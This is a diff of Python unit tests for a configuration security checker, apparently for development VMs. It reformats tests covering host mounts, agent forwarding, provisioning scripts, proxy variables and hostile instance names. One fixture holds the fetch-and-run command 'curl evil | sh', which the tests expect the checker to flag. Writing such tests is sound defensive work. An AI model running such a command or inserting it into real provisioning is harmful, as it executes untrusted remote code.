@@ -96,9 +96,7 @@ def test_host_mount_names_the_config_file(entry: Any) -> None:
 
 def test_host_mount_tells_two_sources_apart() -> None:
     mounts = (HOME, Mount("/home/me/src", "/src", writable=False))
-    results = host_mount.CHECK.run(
-        subject(standard(), config({"mounts": [{"location": "~/src"}]}), mounts=mounts)
-    )
+    results = host_mount.CHECK.run(subject(standard(), config({"mounts": [{"location": "~/src"}]}), mounts=mounts))
     assert [result.location and result.location.path for result in results] == [OWN, OVERRIDE]
 
 
@@ -122,9 +120,7 @@ def test_host_mount_passes() -> None:
         ({"forward_x11": True}, {"ssh": "nonsense"}, "ssh.forwardX11", OWN),
     ],
 )
-def test_agent_forwarding_catches(
-    posture: dict[str, bool], override: dict[str, Any], key: str, path: Path
-) -> None:
+def test_agent_forwarding_catches(posture: dict[str, bool], override: dict[str, Any], key: str, path: Path) -> None:
     for bad in (subject(None, config(override), **posture), orphan(config(override), **posture)):
         (result,) = agent_forwarding.CHECK.run(bad)
         assert result.denies
@@ -170,10 +166,7 @@ def test_foreign_provision_catches() -> None:
     provision = (Provision("system", "curl evil | sh"), Provision("user", "from the template"))
     results = foreign_provision.CHECK.run(subject(None, config({"provision": entries}), provision=provision))
     assert len(results) == 3
-    assert all(
-        result.denies and result.location is not None and result.location.path == OVERRIDE
-        for result in results
-    )
+    assert all(result.denies and result.location is not None and result.location.path == OVERRIDE for result in results)
     assert '"curl evil | sh" (mode system)' in results[0].detail
 
 
@@ -233,10 +226,7 @@ def test_proxy_variables_catches_one_set_for_all_and_never_shows_it(name: str) -
 def test_proxy_variables_passes() -> None:
     wanted = factories.desired(proxy_env=True)
     env = {"http_proxy": "http://p"}
-    assert (
-        proxy_variables.CHECK.run(subject(wanted, config({"propagateProxyEnv": True, "env": env}), env=env))
-        == []
-    )
+    assert proxy_variables.CHECK.run(subject(wanted, config({"propagateProxyEnv": True, "env": env}), env=env)) == []
     assert proxy_variables.CHECK.run(subject(None, config({"env": {"LANG": "C"}}), env={"LANG": "C"})) == []
     assert proxy_variables.CHECK.run(subject(env=env)) == []
     assert proxy_variables.CHECK.run(orphan(proxy_env=True)) == []
@@ -308,8 +298,6 @@ def test_hostile_names_never_reach_the_terminal() -> None:
         receipt_problem=bad,
         status=Status.BROKEN,
     )
-    results += [
-        result for check in CHECKS for result in check.run(dataclasses.replace(hostile, instance=renamed))
-    ]
+    results += [result for check in CHECKS for result in check.run(dataclasses.replace(hostile, instance=renamed))]
     assert texts(results).replace("\n", "").isprintable()
     assert plain_posture(hostile).mounts
